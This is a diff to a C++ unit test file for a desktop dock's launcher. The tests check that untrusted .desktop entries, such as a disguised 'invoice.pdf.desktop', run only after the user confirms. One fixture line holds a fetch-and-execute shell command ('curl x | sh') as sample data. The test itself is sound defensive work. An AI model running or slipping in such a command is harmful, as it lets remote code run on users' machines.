@@ -1,5 +1,6 @@
 #include "support/WorkspaceLaunch.h"
 #include "fakes/FakeClipboard.h"
+#include "fakes/FakeLaunchConfirmation.h"
 #include "fakes/FakeWorkspace.h"
 #include "models/DockItem.h"
 
@@ -7,7 +8,7 @@
 
 namespace {
 
-using Requests = QList<FakeWorkspace::Request>;
+using Requests = QStringList;
 
 DockItem item(DockItemKind kind) {
     DockItem result;
@@ -47,7 +48,8 @@ struct Outcome {
 Outcome opened(const DockItem& dockItem) {
     FakeWorkspace workspace;
     FakeClipboard clipboard;
-    WorkspaceLaunch::open(dockItem, workspace, clipboard);
+    FakeLaunchConfirmation confirmation;
+    WorkspaceLaunch::open(dockItem, workspace, clipboard, confirmation);
     return {workspace.requests, clipboard.text};
 }
 
@@ -61,13 +63,55 @@ const QString entry = QStringLiteral("/usr/share/applications/xterm.desktop");
 
 } // namespace
 
-TEST(WorkspaceLaunchTest, OpensApplicationsFilesAndFoldersByTheirPath) {
-    for (const auto kind : {DockItemKind::application, DockItemKind::file, DockItemKind::folder}) {
-        const auto outcome = opened(withEverything(kind));
-        EXPECT_EQ(outcome.requests, (Requests{{QStringLiteral("openPath"), entry}}))
-            << storedText(kind);
-        EXPECT_FALSE(outcome.clipboard);
-        EXPECT_TRUE(opened(item(kind)).requests.isEmpty()) << "no path";
+TEST(WorkspaceLaunchTest, OnlyAnApplicationItemLaunchesADesktopEntry) {
+    struct Case {
+        DockItemKind kind;
+        const char* path;
+        const char* request; // nullptr: nothing
+    };
+    const Case cases[] = {
+        {DockItemKind::application, "/usr/share/applications/xterm.desktop",
+         "launch /usr/share/applications/xterm.desktop"},
+        {DockItemKind::application, "/opt/tool/tool.app", "openPath /opt/tool/tool.app"},
+        {DockItemKind::application, "/nowhere/broken.desktop", nullptr}, // not a launcher
+        {DockItemKind::file, "/usr/share/applications/xterm.desktop",
+         "openPath /usr/share/applications/xterm.desktop"},
+        {DockItemKind::folder, "/usr/share/applications/xterm.desktop",
+         "openPath /usr/share/applications/xterm.desktop"},
+        {DockItemKind::file, "/home/ann/notes.txt", "openPath /home/ann/notes.txt"},
+    };
+    for (const Case& c : cases) {
+        FakeWorkspace workspace;
+        workspace.launchers.insert(entry, {QStringLiteral("xterm"), true, "id"});
+        FakeClipboard clipboard;
+        FakeLaunchConfirmation confirmation;
+        DockItem dockItem = withEverything(c.kind);
+        dockItem.path = QString::fromUtf8(c.path);
+        WorkspaceLaunch::open(dockItem, workspace, clipboard, confirmation);
+        EXPECT_EQ(workspace.requests,
+                  c.request ? Requests{QString::fromUtf8(c.request)} : Requests{})
+            << storedText(c.kind) << " " << c.path;
+        EXPECT_TRUE(confirmation.questions.isEmpty());
+        EXPECT_FALSE(clipboard.text);
+        EXPECT_TRUE(opened(item(c.kind)).requests.isEmpty()) << "no path";
+    }
+}
+
+TEST(WorkspaceLaunchTest, AnUntrustedEntryLaunchesOnlyOnTheUsersYes) {
+    const QString path = QStringLiteral("/home/ann/Downloads/invoice.pdf.desktop");
+    for (const bool yes : {false, true}) {
+        FakeWorkspace workspace;
+        workspace.launchers.insert(path, {QStringLiteral("sh -c 'curl x | sh'"), false, "id"});
+        FakeClipboard clipboard;
+        FakeLaunchConfirmation confirmation;
+        WorkspaceLaunch::open(withPath(DockItemKind::application, path), workspace, clipboard,
+                              confirmation);
+        EXPECT_EQ(confirmation.questions,
+                  QStringList{path + QStringLiteral(": sh -c 'curl x | sh'")});
+        EXPECT_TRUE(workspace.requests.isEmpty()) << "nothing runs before the answer";
+        confirmation.answerAll(yes);
+        EXPECT_EQ(workspace.requests,
+                  yes ? Requests{QStringLiteral("launch ") + path} : Requests{});
     }
 }
 
@@ -92,7 +136,7 @@ TEST(WorkspaceLaunchTest, OpensOnlyTextThatParsesStrictlyAsAUrlWithAScheme) {
     for (const Case& c : cases) {
         const auto outcome = opened(withUrl(QString::fromUtf8(c.text)));
         const Requests expected =
-            c.opened ? Requests{{QStringLiteral("openUrl"), QString::fromUtf8(c.opened)}}
+            c.opened ? Requests{QStringLiteral("openUrl ") + QString::fromUtf8(c.opened)}
                      : Requests{};
         EXPECT_EQ(outcome.requests, expected) << c.text;
     }
@@ -102,19 +146,20 @@ TEST(WorkspaceLaunchTest, OpensOnlyTextThatParsesStrictlyAsAUrlWithAScheme) {
 TEST(WorkspaceLaunchTest, OpeningAClippingReplacesTheClipboardText) {
     FakeWorkspace workspace;
     FakeClipboard clipboard;
+    FakeLaunchConfirmation confirmation;
     clipboard.setText(QStringLiteral("older"));
     DockItem clipping = withEverything(DockItemKind::clippingText);
     clipping.textContent = QStringLiteral("Grüße\nzweite Zeile");
-    WorkspaceLaunch::open(clipping, workspace, clipboard);
+    WorkspaceLaunch::open(clipping, workspace, clipboard, confirmation);
     EXPECT_EQ(clipboard.text, QStringLiteral("Grüße\nzweite Zeile"));
     EXPECT_EQ(clipboard.writes, 2);
     EXPECT_TRUE(workspace.requests.isEmpty());
 
-    WorkspaceLaunch::open(item(DockItemKind::clippingText), workspace, clipboard);
+    WorkspaceLaunch::open(item(DockItemKind::clippingText), workspace, clipboard, confirmation);
     EXPECT_EQ(clipboard.writes, 2) << "a clipping without text leaves the clipboard alone";
 
     clipping.textContent = QString();
-    WorkspaceLaunch::open(clipping, workspace, clipboard);
+    WorkspaceLaunch::open(clipping, workspace, clipboard, confirmation);
     EXPECT_EQ(clipboard.text, QString()) << "an empty text is still a text";
 }
 
@@ -132,9 +177,8 @@ TEST(WorkspaceLaunchTest, RevealsPathsAsFileUrls) {
     const QString path = QStringLiteral("/home/ann/Mes documents/été #1.txt");
     for (const auto kind : {DockItemKind::application, DockItemKind::file, DockItemKind::folder}) {
         EXPECT_EQ(revealed(withPath(kind, path)),
-                  (Requests{{QStringLiteral("reveal"),
-                             QStringLiteral(
-                                 "file:///home/ann/Mes%20documents/%C3%A9t%C3%A9%20%231.txt")}}))
+                  (Requests{QStringLiteral(
+                      "reveal file:///home/ann/Mes%20documents/%C3%A9t%C3%A9%20%231.txt")}))
             << storedText(kind);
         EXPECT_TRUE(revealed(item(kind)).isEmpty()) << "no path";
     }
@@ -143,7 +187,7 @@ TEST(WorkspaceLaunchTest, RevealsPathsAsFileUrls) {
 TEST(WorkspaceLaunchTest, RevealsAUrlUnchangedWhateverItsScheme) {
     for (const char* text : {"https://example.com/page", "ftp://host/dir/", "mailto:a@b.c"})
         EXPECT_EQ(revealed(withUrl(QString::fromUtf8(text))),
-                  (Requests{{QStringLiteral("reveal"), QString::fromUtf8(text)}}))
+                  (Requests{QStringLiteral("reveal ") + QString::fromUtf8(text)}))
             << text;
     EXPECT_TRUE(revealed(withUrl(QStringLiteral("no scheme here"))).isEmpty());
 }
